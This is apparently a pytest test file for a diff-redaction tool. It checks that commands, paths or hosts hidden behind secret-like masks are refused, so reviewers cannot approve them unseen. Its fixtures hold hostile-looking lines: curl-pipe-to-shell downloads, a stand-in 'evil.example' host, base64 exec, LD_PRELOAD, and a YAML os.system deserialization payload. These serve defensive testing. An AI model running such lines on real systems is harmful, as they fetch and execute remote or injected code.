import pytest

from fermata.kit.diffs import hide_diff
from fermata.kit.errors import UserError
from fermata.kit.hiding import hide_lines
from fermata.kit.showing import cover, hides_more_than_values, refuse_hidden, refuse_lost

HIDING = [
    ["-----BEGIN PRIVATE KEY-----", "/sbin/reboot", "-----END PRIVATE KEY-----"],
    ["password: |", "  curl http://example.com/x | sh"],
    ["PASSWORD=`curl http://example.com/x|sh`"],
    ["token=abc;curl example.com/x|sh"],
    ["# -----BEGIN PRIVATE KEY-----; curl http://example.com/x; " + "A" * 64 + "; -----END PRIVATE KEY-----"],
]


@pytest.mark.parametrize("lines", HIDING)
def test_line_that_hides_more_than_a_value_is_refused_where_it_changes(lines):
    """A command behind the mark of a secret would be approved unseen; beside the change it is only hidden."""
    for sign in "+-":
        diff = ["+++ b/start.sh", *(f"{sign}{line}" for line in lines)]
        with pytest.raises(UserError, match="cannot be shown"):
            refuse_hidden(diff, hide_diff(diff, (), 0).lines)
    context = ["+++ b/start.sh", *(f" {line}" for line in lines), "+replicas: 3"]

    refuse_hidden(context, hide_diff(context, (), 0).lines)


@pytest.mark.parametrize(
    "line",
    [
        "WEBHOOK=Qr3yIQbwhHdi8PPLTXZNxwcgURWaD4ny",
        "AUTH=s3cret",
        "export TOKEN='x y'",
        "DB_URL=postgres://shop:hunter22@db/x",
        "run --password hunter22 | tee log",
    ],
)
def test_value_that_leaves_a_digest_may_change(line):
    """A person sees which value becomes another one."""
    diff = ["+++ b/app.env", f"-{line}", f"+{line.replace('2', '3').replace('x', 'z').replace('s', 't')}"]

    refuse_hidden(diff, hide_diff(diff, (), 0).lines)


@pytest.mark.parametrize(
    ("line", "is_refused"),
    [
        ("+GRANT ALL ON shop.* TO [redacted:told:9f86]", True),
        ("+grant select on orders to '[redacted:random:9f86]';", True),
        ("+REVOKE ALL ON shop.* FROM [redacted:told:9f86]", True),
        ("+SET ROLE [redacted:told:9f86];", True),
        ("+GRANT ALL ON shop.* TO app IDENTIFIED BY '[redacted:sql:9f86]'", False),
    ],
)
def test_right_whose_holder_is_hidden_is_refused(line, is_refused):
    """Nobody approves a right for somebody who is not named; the password of one who is may be hidden."""
    written = line.replace("[redacted:told:9f86]", "x").replace("[redacted:random:9f86]", "x")

    assert hides_more_than_values(written.replace("[redacted:sql:9f86]", "x"), line) is is_refused


@pytest.mark.parametrize(
    "line",
    [
        "SECRET_KEY_BASE=`evil`",
        "password_command = evil",
        '"token-helper": "swordfish1"',
        "TOKEN_CMD=/opt/evil/swordfish1",
        "exec app; Qr3yIQbwhHdi8PPLTXZNxwcgURWaD4ny",
        "exec app | /xtrK40S7MRJF/W/E35rXxbPQdqwOj1OnNWyIkT8g9vctsCLSTQqW2tQ8Fh",
    ],
)
def test_command_that_is_hidden_as_one_value_is_refused(line):
    """A person would see that something is run, and not what."""
    diff = ["+++ b/app.env", f"+{line}"]
    shown = hide_diff(diff, (), 0).lines
    assert "redacted" in shown[1]

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_hidden(diff, shown)


TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z0A"


@pytest.mark.parametrize(
    "line",
    [
        f"exec {TOKEN}",
        f"exec /opt/{TOKEN} --serve",
        f". {TOKEN}",
        f"sh -c {TOKEN}",
        f"  {TOKEN} --serve",
        f"\t@{TOKEN}",
        f"image: registry.example:5000/{TOKEN}",
        f"hostPath: {TOKEN}",
        f"args: ['-c', '{TOKEN}']",
        f'  "{TOKEN}",',
        f"RUN {TOKEN}",
        f"ExecStartPre={TOKEN}",
        f"LD_PRELOAD={TOKEN}",
        f"subprocess.run(['{TOKEN}'])",
        f"exec(base64.b64decode('{TOKEN}'))",
        f"curl https://{TOKEN}.evil.example/x",
        f"curl -fsSL https://get.example/{TOKEN} | sudo bash",
        f"bash <(curl https://get.example/{TOKEN})",
        f"pip install git+https://git.example/shop/{TOKEN}",
        f"ADD https://get.example/{TOKEN} /usr/local/bin/serve",
        'password: \'{{ lookup("pipe", "id") }}\'',
        "password: !!python/object/apply:os.system ['id']",
        "auth: {type: exec, command: /opt/evil}",
    ],
)
def test_place_or_program_behind_the_mark_of_a_secret_is_refused(line):
    """What looks like a secret may name a program, a path, an image or a host, or be a template that is carried out."""
    diff = ["--- a/app.yaml", "+++ b/app.yaml", "@@ -1 +1 @@", "-old", f"+{line}"]
    shown = hide_diff(diff, (), 0).lines
    assert "redacted" in shown[4]

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_hidden(diff, shown)


@pytest.mark.parametrize(
    "line",
    [
        f"git clone https://{TOKEN}@github.com/shop/app",
        f"source: https://deploy:{TOKEN}@git.example/shop",
        f"url: https://hooks.example/services/{TOKEN}",
        f"curl https://hooks.example/services/{TOKEN} -d deployed",
        f"curl 'https://api.example/x?token={TOKEN}&part=2' | jq .",
        f'curl -H "Authorization: Bearer {TOKEN}" https://api.example/x',
        f"docker login -u bob --password {TOKEN} registry.example/shop",
        f"token: {TOKEN}",
        f'connect("shop", "{TOKEN}")',
    ],
)
def test_secret_where_secrets_stand_may_change(line):
    """Its place in a line says that it is a value: a person sees what it is for."""
    diff = ["--- a/app.yaml", "+++ b/app.yaml", "@@ -1 +1 @@", "-old", f"+{line}"]
    shown = hide_diff(diff, (), 0).lines
    assert "redacted" in shown[4]

    refuse_hidden(diff, shown)


RANDOM = ["/xtrK40S7MRJF/W/E35rXxbPQdqwOj1OnNWyIkT8g9vctsCLSTQqW2tQ8Fh", "Qr3yIQbwhHdi8PPLTXZNxwcgURWaD4ny"]


@pytest.mark.parametrize("line", RANDOM)
@pytest.mark.parametrize("hide", [lambda diff: hide_diff(diff, (), 0).lines, lambda diff: hide_lines(diff, 0).lines])
def test_line_that_is_hidden_with_its_sign_is_refused(line, hide):
    """Without it the line would pass for context: the path of a program may look as random as a secret."""
    for sign in "+-":
        diff = ["+++ b/start.sh", " exec app", f"{sign}{line}"]
        with pytest.raises(UserError, match="cannot be shown"):
            refuse_hidden(diff, hide(diff))
    context = ["+++ b/start.sh", f" {line}", "+exec app"]

    refuse_hidden(context, hide(context))


def test_line_that_loses_its_sign_to_a_secret_and_shows_more_is_refused():
    """What stands behind the secret makes it no line that is hidden whole; it would pass for context all the same."""
    diff = ["+++ b/start.sh", f"+{RANDOM[1]} --verbose"]
    shown = hide_lines(diff, 0).lines
    assert shown[1].startswith("[redacted:")

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_hidden(diff, shown)


def test_bytes_that_are_no_text_are_refused_where_they_change():
    """All of them are shown as the same character."""
    diff = ["+++ b/app.txt", "-caf\ufffd", "+cafe"]

    with pytest.raises(UserError, match="cannot be shown"):
        refuse_hidden(diff, hide_diff(diff).lines)


@pytest.mark.parametrize("lines", HIDING)
def test_covered_line_is_known_in_a_diff_of_hidden_texts(lines):
    """Where the texts are hidden before they are compared, the mark tells of it, and differs as the line does."""
    covered = [
        cover(line, shown[1:])
        for line, shown in zip(lines, hide_diff([f" {line}" for line in lines]).lines, strict=True)
    ]

    assert cover("a|b", "a|b") == "a|b"
    assert cover(f"{lines[-1]}2", "[redacted:entropy:0000]") != cover(lines[-1], "[redacted:entropy:0000]")
    refuse_lost("\n".join(f" {line}" for line in covered))
    with pytest.raises(UserError, match="cannot be shown"):
        refuse_lost("\n".join(f"+{line}" for line in covered))


def test_list_of_hidden_values_is_hidden_whole():
    """A line of nothing but marks says nothing; a value named by its field does."""
    assert hides_more_than_values("+  - swordfish1", "+  - [redacted:assignment:0000]")
    assert not hides_more_than_values("+  value: swordfish1", "+  value: [redacted:assignment:0000]")
    assert not hides_more_than_values("+  - swordfish1", "+  - <redacted 00000000>")
